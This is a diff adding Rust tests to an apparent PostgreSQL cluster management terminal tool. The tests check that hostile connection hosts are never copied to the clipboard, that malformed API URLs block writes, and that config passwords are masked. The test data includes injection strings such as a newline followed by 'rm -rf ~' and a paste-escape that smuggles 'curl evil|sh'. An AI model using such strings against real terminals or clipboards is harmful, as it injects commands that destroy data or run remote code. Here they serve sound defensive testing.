@@ -369,6 +369,116 @@ fn nothing_is_sent_without_a_confirmation() {
     }
 }
 
+/// A `conn_url` host with a newline, ESC, BEL or an end-of-paste sequence never reaches the
+/// clipboard: every connection string holding that member's host is refused with a notice
+/// (and the writer would refuse its bytes too); the others copy exactly as before.
+#[test]
+fn a_hostile_conn_url_host_is_never_copied() {
+    let now = Instant::now();
+    for host in [
+        "10.0.0.2\nrm -rf ~",
+        "10.0.0.2\u{1b}[201~\ncurl evil|sh\n",
+        "10.0.0.2\u{7}",
+        "evil.example;id",
+    ] {
+        let mut a = healthy_live(now);
+        let mut member: serde_json::Value =
+            serde_json::from_slice(&fixture("etcd/member_replica.json")).unwrap();
+        member["conn_url"] = format!("postgres://{host}:24022/postgres").into();
+        a.update(Msg::Dcs(
+            now,
+            DcsEvent::Put(kv("members/pg2", member.to_string().as_bytes())),
+        ));
+        a.update(key('d'));
+        let all = a.model.connection_strings();
+        let mut copied = Vec::new();
+        for (i, c) in all.iter().enumerate() {
+            a.screen.replace_top(View::Dsn(i));
+            let eff = a.update(key('y'));
+            let flash = format!("{:?}", a.screen.flash);
+            if c.text.contains("10.0.0.2") || c.text.contains("evil") {
+                assert!(eff.is_empty(), "{host:?}: {c:?} refused: {eff:?}");
+                assert!(c.refused.is_some(), "{c:?}");
+                assert!(flash.contains("not copied"), "{flash}");
+                assert!(flash.contains("pg2's conn_url"), "{flash}");
+            } else {
+                let [Effect::Copy(t)] = eff.as_slice() else {
+                    panic!("{host:?}: {c:?} copied: {eff:?}")
+                };
+                assert_eq!(t, &c.text);
+                copied.push(t.clone());
+            }
+        }
+        assert_eq!(
+            copied,
+            [
+                "host=127.0.0.1 port=24021",
+                "host=127.0.0.1 port=24021",
+                "host=127.0.0.1 port=24023"
+            ],
+            "{host:?}: the leader's, and pg1's and pg3's own"
+        );
+        for t in &copied {
+            assert!(crate::clip::osc52(t).is_ok(), "{t}");
+        }
+    }
+    // a clean cluster: every string copies, the multi-host ones as before
+    let mut a = healthy_live(now);
+    a.update(key('d'));
+    let all = a.model.connection_strings();
+    assert!(all.iter().all(|c| c.refused.is_none()), "{all:?}");
+    assert_eq!(
+        all[1].text,
+        "postgresql://127.0.0.1:24021,127.0.0.1:24022,127.0.0.1:24023/postgres?target_session_attrs=read-write"
+    );
+}
+
+/// A member whose api_url carries a path, a query, a fragment or userinfo gets no write:
+/// the reload's pre-flight check says why and `y` sends nothing; a clean api_url gets
+/// exactly `POST {scheme://host:port}/reload`.
+#[test]
+fn an_api_url_with_more_than_scheme_host_and_port_refuses_the_members_writes() {
+    let now = Instant::now();
+    for bad in [
+        "http://127.0.0.1:24012/restart#",
+        "http://127.0.0.1:24012/patroni?x=1",
+        "http://127.0.0.1:24012/patroni#",
+        "http://u:p@127.0.0.1:24012/patroni",
+        "ftp://127.0.0.1:24012/patroni",
+    ] {
+        let mut a = healthy_live(now);
+        let member = String::from_utf8_lossy(&fixture("etcd/member_replica.json"))
+            .replace("http://127.0.0.1:24012/patroni", bad);
+        a.update(Msg::Dcs(
+            now,
+            DcsEvent::Put(kv("members/pg2", member.as_bytes())),
+        ));
+        a.update(key('j'));
+        a.update(key('L'));
+        let plan = a
+            .model
+            .plan(a.session.dialog.as_ref().expect("the reload dialog"));
+        assert!(
+            plan.checks
+                .iter()
+                .any(|c| c.level == checks::Level::Fail && c.text.contains("pg2's api_url")),
+            "{bad}: {:?}",
+            plan.checks
+        );
+        let eff = a.update(key('y'));
+        assert!(sends(&eff).is_empty(), "{bad}: nothing sent: {eff:?}");
+        assert!(a.session.ops.is_empty(), "{bad}");
+    }
+    let mut a = healthy_live(now);
+    a.update(key('j'));
+    a.update(key('L'));
+    let eff = a.update(key('y'));
+    let sent = sends(&eff);
+    assert_eq!(sent.len(), 1, "{eff:?}");
+    assert_eq!(sent[0].method_label(), "POST");
+    assert_eq!(sent[0].url(), "http://127.0.0.1:24012/reload");
+}
+
 #[test]
 fn switchover_enter_y_sends_exactly_the_request_shown() {
     let now = Instant::now();
@@ -1697,6 +1807,58 @@ fn a_config_without_maximum_lag_on_failover_has_patronis_default_limit() {
     );
     let pg3 = c.iter().find(|c| c.name == "pg3").unwrap();
     assert!(pg3.eligible(), "{pg3:?}");
+}
+
+/// Secrets in the dynamic config (a key named like a password, libpq `password=` in a
+/// conninfo and a command, URI userinfo) reach neither the model's config, nor the event a
+/// change makes, nor the `E` export; a changed password is still news, without its value.
+#[test]
+fn config_secrets_reach_no_event_and_no_export_but_their_change_is_news() {
+    let now = Instant::now();
+    let cfg = |pw: &str| {
+        format!(
+            r#"{{"ttl": 20, "x": {{"authentication": {{"replication": {{"password": "{pw}-a"}}}},
+               "primary_conninfo": "host=h user=rep password='{pw}-b' port=5432",
+               "restore_command": "PGPASSWORD={pw}-c pg_receivewal -d postgresql://rep:{pw}-d@h/db"}}}}"#
+        )
+    };
+    let mut kvs: Vec<_> = healthy_kvs()
+        .into_iter()
+        .filter(|kv| !kv.key.ends_with("/config"))
+        .collect();
+    kvs.push(kv("config", cfg("old-secret").as_bytes()));
+    let mut a = app(kvs, now);
+    let raw = a
+        .cluster()
+        .and_then(|c| c.config.as_ref())
+        .unwrap()
+        .raw
+        .to_string();
+    assert!(!raw.contains("old-secret"), "{raw}");
+    assert!(
+        raw.contains("host=h user=rep password='***' port=5432"),
+        "{raw}"
+    );
+    a.update(Msg::Dcs(
+        later(now, 1),
+        DcsEvent::Put(kv("config", cfg("new-secret").as_bytes())),
+    ));
+    let texts: Vec<String> = a.model.events.iter().map(|e| e.kind.text()).collect();
+    let all = texts.join("\n");
+    assert!(!all.contains("secret-"), "{all}");
+    for k in [
+        "x.authentication.replication.password: changed (value hidden)",
+        "x.primary_conninfo: changed (value hidden)",
+        "x.restore_command: changed (value hidden)",
+    ] {
+        assert!(all.contains(k), "{k} in {all}");
+    }
+    let eff = a.update(key('E'));
+    let [Effect::WriteFile { content, .. }] = eff.as_slice() else {
+        panic!("{eff:?}")
+    };
+    assert!(content.contains("changed (value hidden)"), "{content}");
+    assert!(!content.contains("secret-"), "{content}");
 }
 
 /// The cluster model alone, fed a recording of the messages an app saw: no screen, no
